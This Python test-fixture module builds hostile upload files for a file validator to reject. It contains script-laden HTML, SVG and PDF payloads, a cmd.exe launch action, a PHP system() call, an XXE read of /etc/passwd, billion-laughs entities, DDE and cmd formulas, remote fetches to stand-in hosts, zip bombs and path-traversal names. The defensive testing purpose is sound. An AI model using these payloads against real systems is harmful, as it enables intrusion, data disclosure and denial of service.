"""Makes files that must never be taken, in code: none is kept as a binary. Each is a name and what it holds."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

from evidence_files import (
    archive,
    chunk,
    docx,
    jpeg,
    ofd,
    pdf,
    pdf_packed,
    pdf_revised,
    png,
    relations,
    segment,
    stream,
    xlsx,
)

HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\0" + bytes(200) + b"PE\0\0"
_XML = '<?xml version="1.0" encoding="UTF-8"?>'
_SHEET = "xl/worksheets/sheet1.xml"
_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
_DOCTYPE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_LAUGHS = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))

Made = Callable[[], tuple[str, bytes]]


def _named(name: str, content: bytes = b"") -> Made:
    return lambda: (name, content or pdf())


def changed(content: bytes, changes: dict[str, bytes | str]) -> bytes:
    """Return a package with parts changed or added."""
    with zipfile.ZipFile(BytesIO(content)) as package:
        members: dict[str, bytes | str] = {name: package.read(name) for name in package.namelist()}
    return archive(members | changes)


def _in_part(content: bytes, name: str, before: bytes, put: bytes) -> bytes:
    with zipfile.ZipFile(BytesIO(content)) as package:
        body = package.read(name)
    assert before in body
    return changed(content, {name: body.replace(before, put, 1)})


def _sheet(put: bytes) -> Made:
    return lambda: ("x.xlsx", _in_part(xlsx(), _SHEET, b"<sheetData>", b"<sheetData>" + put))


def _linked() -> tuple[str, bytes]:
    """A workbook with a member that is a symbolic link."""
    buffer = BytesIO(xlsx())
    with zipfile.ZipFile(buffer, "a") as package:
        link = zipfile.ZipInfo("xl/media/image9.png")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return "x.xlsx", buffer.getvalue()


def _twice() -> tuple[str, bytes]:
    buffer = BytesIO(docx())
    with zipfile.ZipFile(buffer, "a") as package:
        package.writestr("WORD/document.xml", "<other/>")
    return "x.docx", buffer.getvalue()


def _overlapping() -> tuple[str, bytes]:
    """The directory names one member many times over, as the best bombs do."""
    body = archive({"word/document.xml": bytes(3_000_000)})
    place = body.rindex(b"PK\x05\x06")
    entry = body[body.index(b"PK\x01\x02") : place]
    entries = b"".join(entry.replace(b"document", b"docum%03d" % n) for n in range(500))
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 500, 500, len(entries), body.index(b"PK\x01\x02"), 0)
    return "x.docx", body[: body.index(b"PK\x01\x02")] + entries + end


def _many_streams() -> tuple[str, bytes]:
    bomb = stream(bytes(50_000_000))
    return "x.pdf", pdf({number: bomb for number in range(5, 60)})


def _circle() -> tuple[str, bytes]:
    """A directory whose earlier part is itself."""
    made = pdf(trailer=b"/Prev 0000000000")
    start = int(made.rpartition(b"startxref\n")[2].split()[0])
    return "x.pdf", made.replace(b"/Prev 0000000000", b"/Prev %010d" % start)


def _hidden_objects() -> tuple[str, bytes]:
    """Packed objects behind another way of packing, which few look into."""
    inside = b"5 0 " + _ACTION
    told = b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode] "
    return "x.pdf", pdf({5: stream(inside.hex().encode() + b">", told, packed=False)})


def _masked_objects() -> tuple[str, bytes]:
    """Packed objects whose dictionary seems to be another's: the right one stands in a string of it."""
    told = b"/X (9 0 obj << \\() /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode "
    return "x.pdf", pdf({5: stream((b"5 0 " + _ACTION).hex().encode() + b">", told, packed=False)})


_GIF_JS = b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"
_JPEG_JS = b"\xff\xd8\xff\xe0\x2f\x2a" + b"\0" * 0x2F28 + b"*/=1;alert(1)/*" + b"\xff\xd9"

HOSTILE: dict[str, Made] = {
    # Names and kinds.
    "a program called pdf": _named("x.pdf", EXE),
    "a program": _named("x.exe", EXE),
    "a page": _named("x.html", HTML),
    "a page called png": _named("x.png", HTML),
    "a drawing": _named("x.svg", SVG),
    "a drawing called jpeg": _named("x.jpg", SVG),
    "a pdf called png": _named("x.png", pdf()),
    "a png called jpeg": _named("x.jpg", png()),
    "a docx called xlsx": lambda: ("x.xlsx", docx()),
    "an xlsx called docx": lambda: ("x.docx", xlsx()),
    "a docx called ofd": lambda: ("x.ofd", docx()),
    "a zip called docx": lambda: ("x.docx", archive({"a.txt": "x"})),
    "an old office file": _named("x.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "two endings": _named("x.exe.pdf"),
    "two endings, the second one hidden by blanks": _named("x.pdf .exe .pdf"),
    "no ending": _named("pdf"),
    "an ending alone": _named(".pdf"),
    "a macro workbook": _named("x.xlsm", b"PK\x03\x04"),
    "a zero in the name": _named("x.exe\0.pdf"),
    "a line break in the name": _named("x\r\nSet-Cookie: a=b.pdf"),
    "a path up": _named("../../../tmp/evil.pdf"),
    "a path of windows": _named("..\\..\\evil.pdf"),
    "an absolute path": _named("/etc/cron.d/evil.pdf"),
    "a drive": _named("C:evil.pdf"),
    "a name written backwards": _named("x\u202efdp.exe.pdf"),
    "a name of 4,000 bytes": _named("a" * 3_996 + ".pdf"),
    "a name of bytes that are no text": _named("\ufffd\ufffd.pdf"),
    "a device": _named("con.pdf"),
    "nothing in it": lambda: ("x.pdf", b""),
    "one byte of 255": _named("x.pdf", b"\xff"),
    "many bytes of 255": _named("x.jpg", b"\xff" * 100_000),
    # Two in one.
    "a gif that is a script": _named("x.png", _GIF_JS),
    "a jpeg that is a script": _named("x.jpg", _JPEG_JS),
    "a png and an archive": lambda: ("x.png", png() + archive({"a": "b"})),
    "an archive within a png": lambda: ("x.png", png(before=chunk(b"prVt", archive({"a": "b"})))),
    "a page in the notes of a png": lambda: ("x.png", png(before=chunk(b"zTXt", b"Comment\0\0" + zlib.compress(HTML)))),
    "a page behind a jpeg": lambda: ("x.jpg", jpeg(after=HTML)),
    "a page in the notes of a jpeg": lambda: ("x.jpg", jpeg(notes=segment(0xFE, b"<?php system(1); ?>"))),
    "an archive in the notes of a jpeg": lambda: ("x.jpg", jpeg(notes=segment(0xFE, archive({"a": "b"})))),
    "a pdf and a page": lambda: ("x.pdf", pdf() + HTML),
    "a page within a pdf": lambda: ("x.pdf", pdf({5: stream(HTML, packed=False)})),
    "a pdf and an archive": lambda: ("x.pdf", pdf() + archive({"a": "b"})),
    "an archive within a pdf": lambda: ("x.pdf", pdf({5: stream(archive({"a": "b"}), packed=False)})),
    "a pdf behind a page": lambda: ("x.pdf", HTML + pdf()),
    # PDF.
    "a script": lambda: ("x.pdf", pdf({5: _ACTION}, catalog=b"/OpenAction 5 0 R")),
    "a script under another name": lambda: ("x.pdf", pdf({5: b"<< /S /J#61vaScr#69pt /JS (x) >>"})),
    "a script in packed objects": lambda: ("x.pdf", pdf_packed({5: _ACTION})),
    "a script in objects packed otherwise": _hidden_objects,
    "a script in objects behind a mask": _masked_objects,
    "a script in a revision": lambda: ("x.pdf", pdf_revised({5: _ACTION})),
    "a script of a page": lambda: ("x.pdf", pdf(page=b"/AA << /O " + _ACTION + b" >>")),
    "a launch": lambda: ("x.pdf", pdf({5: b"<< /S /Launch /F (cmd.exe) >>"})),
    "an address that opens by itself": lambda: (
        "x.pdf",
        pdf(catalog=b"/OpenAction << /S /URI /URI (https://elsewhere.example) >>"),
    ),
    "an address that opens with a page": lambda: ("x.pdf", pdf(page=b"/AA << /O << /S /URI /URI (https://e) >> >>")),
    "a script in objects with a way to read them of their own": lambda: (
        "x.pdf",
        pdf_packed({5: b"<< >>"}, about=b"/DecodeParms 7 0 R "),
    ),
    "a script in objects whose packing is told behind a remark": lambda: (
        "x.pdf",
        pdf(
            {
                5: stream(
                    (b"5 0 " + _ACTION).hex().encode() + b">",
                    b"/Type /ObjStm /N 1 /First 4 /Filter %x\n/ASCIIHexDecode ",
                    packed=False,
                )
            }
        ),
    ),
    "an object that cannot be read to its end": lambda: (
        "x.pdf",
        pdf({5: b"<< /A ) /First 3 >>\nstream\nx\nendstream"}),
    ),
    "an embedded file": lambda: ("x.pdf", pdf({5: stream(EXE, b"/Type /EmbeddedFile ")})),
    "an embedded file without its type": lambda: ("x.pdf", pdf({5: b"<< /F (a.exe) /EF << /F 6 0 R >> >>"})),
    "a form of xml": lambda: ("x.pdf", pdf(catalog=b"/AcroForm << /XFA 5 0 R >>")),
    "rich media": lambda: ("x.pdf", pdf(page=b"/Annots [<< /Subtype /RichMedia >>]")),
    "a remote document": lambda: ("x.pdf", pdf({5: b"<< /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) >>"})),
    "an encrypted pdf": lambda: ("x.pdf", pdf(trailer=b"/Encrypt << /Filter /Standard /V 2 >>")),
    "a directory in a circle": _circle,
    "a directory too large": lambda: ("x.pdf", pdf().replace(b"/Size 5", b"/Size 99999999")),
    "a pdf that nests too deep": lambda: ("x.pdf", pdf({5: b"[" * 5_000 + b"]" * 5_000})),
    "a pdf cut off": lambda: ("x.pdf", pdf()[:-40]),
    "a pdf of a bomb": lambda: ("x.pdf", pdf({5: stream(bytes(120_000_000))})),
    "a pdf of many bombs": _many_streams,
    "a pdf packed twice": lambda: (
        "x.pdf",
        pdf({5: stream(zlib.compress(b"x"), b"/Filter [/FlateDecode /FlateDecode] ", packed=False)}),
    ),
    "a bomb of packed objects": lambda: ("x.pdf", pdf_packed({5: b"(" + b"a" * 40_000_000 + b")"})),
    # Pictures.
    "a flood of pixels": lambda: ("x.png", png(stated=(30_000, 30_000))),
    "a picture too long": lambda: ("x.png", png(stated=(20_001, 2))),
    "more data than the picture has": lambda: ("x.png", png(data=bytes(60_000_000))),
    "less data than the picture has": lambda: ("x.png", png(stated=(400, 300))),
    "a wrong sum": lambda: ("x.png", png().replace(b"IDAT", b"IDaT", 1)),
    "a picture that moves": lambda: ("x.png", png(before=chunk(b"acTL", bytes(8)))),
    "a flood of pixels in a jpeg": lambda: ("x.jpg", jpeg(30_000, 30_000)),
    "a jpeg of a thousand scans": lambda: ("x.jpg", jpeg(scans=1_000)),
    "a jpeg cut off": lambda: ("x.jpg", jpeg()[:-2]),
    # Packages.
    "a zip bomb": lambda: ("x.docx", docx(changes={"word/media/image1.png": bytes(140_000_000)})),
    "packed too well": lambda: ("x.docx", docx(changes={"word/media/image1.png": bytes(20_000_000)})),
    "overlapping members": _overlapping,
    "an archive in it": lambda: ("x.docx", docx(changes={"word/media/a.zip": archive({"a": "b"})})),
    "a workbook in it": lambda: ("x.docx", docx(changes={"word/embeddings/a.xlsx": xlsx()})),
    "too many members": lambda: ("x.docx", docx(changes={f"word/media/image{n}.png": b"x" for n in range(2_100)})),
    "a link as a member": _linked,
    "a member outside": lambda: ("x.docx", docx(changes={"word/media/../../../evil.png": b"x"})),
    "a member with a drive": lambda: ("x.docx", docx(changes={"c:/evil.png": b"x"})),
    "two members of one name": _twice,
    "something before the archive": lambda: ("x.docx", b"PK\x03\x04" + EXE + docx()),
    "something behind the archive": lambda: ("x.docx", docx() + HTML),
    "an encrypted member": lambda: (
        "x.docx",
        docx().replace(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\x01\0"),
    ),
    # Workbooks.
    "a bomb of shared words": lambda: (
        "x.xlsx",
        changed(xlsx(), {"xl/sharedStrings.xml": b"<sst>" + b" " * 120_000_000}),
    ),
    "a sheet that reaches too far": lambda: (
        "x.xlsx",
        changed(xlsx(), {_SHEET: '<worksheet><dimension ref="A1:XFD1048576"/><sheetData/></worksheet>'}),
    ),
    "a million styles": lambda: (
        "x.xlsx",
        changed(xlsx(), {"xl/styles.xml": "<s>" + '<xf numFmtId="0"/>' * 1_000_000}),
    ),
    "more styles than there can be": lambda: (
        "x.xlsx",
        changed(xlsx(), {"xl/styles.xml": "<s>" + '<xf numFmtId="0"/>' * 70_000}),
    ),
    "links to other books": lambda: ("x.xlsx", changed(xlsx(), {"xl/externalLinks/externalLink1.xml": "<x/>"})),
    "a macro": lambda: ("x.xlsx", changed(xlsx(), {"xl/vbaProject.bin": b"x"})),
    "a macro sheet": lambda: ("x.xlsx", changed(xlsx(), {"xl/macrosheets/sheet1.xml": "<x/>"})),
    "a connection": lambda: ("x.xlsx", changed(xlsx(), {"xl/connections.xml": "<x/>"})),
    "a control": lambda: ("x.xlsx", changed(xlsx(), {"xl/activeX/activeX1.xml": "<x/>"})),
    "an unknown part": lambda: ("x.xlsx", changed(xlsx(), {"xl/payload.exe": EXE})),
    "a formula that calls a program": _sheet(b'<row r="9"><c r="A9"><f>cmd|\'/C calc\'!A0</f></c></row>'),
    "the same with its bar hidden": _sheet(b'<row r="9"><c r="A9"><f>cmd&#124;\'/C calc\'!A0</f></c></row>'),
    "a formula that fetches": _sheet(b'<row r="9"><c r="A9"><f>WEBSERVICE("http://e.example")</f></c></row>'),
    "an entity from elsewhere": lambda: (
        "x.xlsx",
        changed(xlsx(), {"xl/workbook.xml": _XML + _DOCTYPE + "<x>&e;</x>"}),
    ),
    "laughs": lambda: (
        "x.xlsx",
        changed(xlsx(), {"xl/sharedStrings.xml": f"{_XML}<!DOCTYPE x [<!ENTITY l0 'ha'>{_LAUGHS}]><x>&l9;</x>"}),
    ),
    "entities in UTF-16": lambda: (
        "x.xlsx",
        changed(xlsx(), {"xl/sharedStrings.xml": (_DOCTYPE + "<x/>").encode("utf-16")}),
    ),
    "a picture from elsewhere": lambda: (
        "x.xlsx",
        changed(
            xlsx(), {"xl/worksheets/_rels/sheet1.xml.rels": relations(("image", "http://e.example/a.png", "External"))}
        ),
    ),
    # Letters.
    "a template from elsewhere": lambda: (
        "x.docx",
        docx(
            changes={
                "word/_rels/settings.xml.rels": relations(("attachedTemplate", "http://e.example/a.dotm", "External"))
            }
        ),
    ),
    "a template of a share": lambda: ("x.docx", docx(links=[("hyperlink", "file://server/share/a", "External")])),
    "an object": lambda: ("x.docx", docx(links=[("oleObject", "embeddings/a.bin", "")])),
    "a field of programs, cut in two": lambda: (
        "x.docx",
        docx("<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:r>"),
    ),
    "a field of programs right behind another": lambda: (
        "x.docx",
        docx(
            "<w:r><w:fldChar/><w:instrText>PAGE</w:instrText><w:fldChar/></w:r>"
            "<w:r><w:fldChar/><w:instrText>DDEAUTO c</w:instrText></w:r>"
        ),
    ),
    "a field of programs under another prefix": lambda: ("x.docx", docx("<q:instrText>DDE a b</q:instrText>")),
    "a field of programs with a remark within": lambda: (
        "x.docx",
        docx("<w:instrText>DD<!-- x -->E <![CDATA[a]]> b</w:instrText>"),
    ),
    "a letter in an encoding of its own": lambda: (
        "x.docx",
        docx(changes={"word/document.xml": f'<?xml version="1.0" {" " * 500}encoding="utf-7"?><x/>'}),
    ),
    "a field that includes": lambda: ("x.docx", docx('<w:fldSimple w:instr="INCLUDETEXT &quot;http://e&quot;"/>')),
    "an other text within": lambda: ("x.docx", docx('<w:altChunk r:id="rId9"/>')),
    "a document with macros": lambda: ("x.docx", docx(main="ms-word.document.macroEnabled.main+xml")),
    "an entity in a letter": lambda: ("x.docx", docx(changes={"word/document.xml": _XML + _DOCTYPE + "<x>&e;</x>"})),
    # OFD.
    "an ofd without its root": lambda: ("x.ofd", archive({"Doc_0/Document.xml": "<x/>"})),
    "an ofd whose root leads outside": lambda: ("x.ofd", ofd(root="../../etc/passwd")),
    "an ofd with a member outside": lambda: ("x.ofd", ofd(changes={"Doc_0/../../evil.xml": "<x/>"})),
    "an ofd with a program": lambda: ("x.ofd", ofd(changes={"Doc_0/Attachs/evil.exe": EXE})),
    "an ofd with an entity": lambda: ("x.ofd", ofd(changes={"Doc_0/Document.xml": _XML + _DOCTYPE + "<x>&e;</x>"})),
}
